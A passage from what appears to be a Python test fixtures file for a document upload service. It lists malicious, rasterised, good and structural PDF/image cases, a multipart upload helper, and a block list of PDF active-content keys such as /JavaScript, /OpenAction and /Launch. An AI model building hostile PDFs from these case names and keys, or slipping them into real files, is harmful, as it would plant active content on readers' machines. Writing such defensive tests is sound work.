    "owner_password_only": owner_password_only_pdf,
    "indirect_action_type": indirect_action_pdf,
    "upward_key_payload": upward_key_payload_pdf,
    "action_in_object_stream": hidden_action_pdf,
}

# PDFs holding what officers' viewers must not parse (embedded font programs, JBIG2 or JPEG
# 2000 images): accepted, rendered to page images, with their page count.
RASTERISED_CASES: dict[str, tuple[Callable[[], bytes], int]] = {
    "embedded_font_type1": (functools.partial(embedded_font_pdf, b"/FontFile"), 1),
    "embedded_font_truetype": (functools.partial(embedded_font_pdf, b"/FontFile2"), 1),
    "embedded_font_cff": (functools.partial(embedded_font_pdf, b"/FontFile3"), 1),
    "embedded_font_in_form": (font_in_form_pdf, 1),
    "embedded_font_3_pages": (embedded_font_pages_pdf, 3),
    "embedded_font_owner_password_only": (embedded_font_owner_password_only_pdf, 3),
    "jbig2_image": (jbig2_pdf, 1),
    "jpx_image": (jpx_pdf, 1),
    "jpx_inline_image": (inline_jpx_pdf, 1),
}

# Files that are accepted as they are, with their page count.
GOOD_CASES: dict[str, tuple[Callable[[], bytes], int]] = {
    "pdf_3_pages": (functools.partial(pdf_pages, 3), 3),
    "jpeg": (jpeg, 1),
    "jpeg_exif_rotated": (functools.partial(jpeg, 400, 300, 6), 1),
    "jpeg_exif_mirrored": (functools.partial(jpeg, 400, 300, 5), 1),
    "jpeg_cmyk": (jpeg_cmyk, 1),
    "png": (png, 1),
    "png_alpha": (functools.partial(png, 300, 200, "RGBA"), 1),
    "png_palette_alpha": (png_palette_with_alpha, 1),
    "png_16bit": (functools.partial(png, 50, 40, "I;16"), 1),
    "png_grey": (functools.partial(png, 50, 40, "L"), 1),
    "pdf_30_pages": (functools.partial(pdf_pages, 30), 30),
}

# Valid PDFs whose structure the merge must carry over (inheritance, links, version); kept
# apart from GOOD_CASES, which the HTTP tests upload all at once within the 10-file limit.
STRUCTURE_CASES: dict[str, tuple[Callable[[], bytes], int]] = {
    "pdf_inherited_attributes": (inherited_attributes_pdf, 2),
    "pdf_linked_pages": (linked_pages_pdf, 2),
    "pdf_2_0": (pdf_2_0, 1),
    "pdf_object_stream": (packed_pdf, 1),
}

# Names and values an active-content scan must never find in a stored PDF.
ACTIVE_KEYS = (
    "/JavaScript",
    "/JS",
    "/OpenAction",
    "/AA",
    "/Launch",
    "/EmbeddedFiles",
    "/EmbeddedFile",
    "/RichMedia",
    "/XFA",
    "/SubmitForm",
)


def multipart_body(
    files: list[tuple[str, bytes]],
    field: str = "files",
    boundary: str = "----jhtBoundary7MA4YWxkTrZu0gW",
    extra_fields: dict[str, str] | None = None,
) -> tuple[str, bytes]:
    """(Content-Type header, body) of a multipart/form-data upload of (file name, bytes)."""
    parts = []
    for name, value in (extra_fields or {}).items():
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
            + value.encode()
            + b"\r\n"
        )
    for filename, data in files:
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; '
            f'filename="{filename}"\r\nContent-Type: application/pdf\r\n\r\n'.encode()
            + data
            + b"\r\n"
        )
    parts.append(f"--{boundary}--\r\n".encode())
    return f"multipart/form-data; boundary={boundary}", b"".join(parts)
